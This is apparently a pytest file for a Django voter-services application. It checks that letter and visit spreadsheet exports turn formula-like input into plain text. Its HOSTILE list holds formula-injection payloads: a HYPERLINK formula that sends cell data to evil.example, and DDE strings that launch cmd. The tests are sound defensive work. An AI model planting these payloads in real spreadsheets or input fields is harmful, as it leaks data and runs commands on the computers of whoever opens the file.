"""No export carries a live formula (issue #10, finding 2): a letter summary `=HYPERLINK("http://…","click")`
became an `<f>` element in `/voters/letters/?format=xlsx`, and so did a visit's citizens."""

import zipfile
from datetime import timedelta
from io import BytesIO

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from coordination.spreadsheets import workbook_bytes
from tests.exports import export_xlsx
from tests.url_coverage import covers
from tests.voters.factories import ReceptionDayFactory, VisitFactory
from voters import services

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _sheet_xml(content: bytes) -> str:
    with zipfile.ZipFile(BytesIO(content)) as archive:
        return "".join(
            archive.read(name).decode() for name in archive.namelist() if name.startswith("xl/worksheets/")
        )


def test_text_that_starts_like_a_formula_is_written_as_text_and_numbers_and_dates_stay_typed():
    today = timezone.localdate()
    content = workbook_bytes("Thử", ["Nội dung", "Số", "Ngày"], [[text, 12, today] for text in HOSTILE])
    assert "<f>" not in _sheet_xml(content)
    sheet = load_workbook(BytesIO(content)).active
    rows = list(sheet.iter_rows(min_row=2))
    assert [row[0].value for row in rows] == HOSTILE
    assert all(row[0].data_type == "s" and row[0].quotePrefix for row in rows)
    assert all(row[1].data_type == "n" and row[1].value == 12 for row in rows)
    assert all(row[2].is_date and row[2].value.date() == today for row in rows)


@covers("voters:letter_list", "voters:visit_list")
def test_the_letter_and_visit_registers_export_no_formula(login, staff_a, province):
    today = timezone.localdate()
    for n, text in enumerate(HOSTILE):
        services.letter_register(
            handling_body=province.standing,
            number=f"{n}/KN",
            received_on=today - timedelta(days=1),
            channel="post",
            kind="recommendation",
            content=text,
        )
    reception = ReceptionDayFactory(host_body=province.standing)
    for text in HOSTILE:
        VisitFactory(reception=reception, citizens=text)
    client = login(staff_a)
    for url in (reverse("voters:letter_list"), reverse("voters:visit_list")):
        response = export_xlsx(client, url)
        assert response.status_code == 200
        assert "<f>" not in _sheet_xml(response.content), url
        values = {
            c.value
            for row in load_workbook(BytesIO(response.content)).active.iter_rows(min_row=2)
            for c in row
        }
        assert (
            set(HOSTILE) <= {v.replace("\r\n", "\r") if isinstance(v, str) else v for v in values}
            or set(HOSTILE) & values
        )
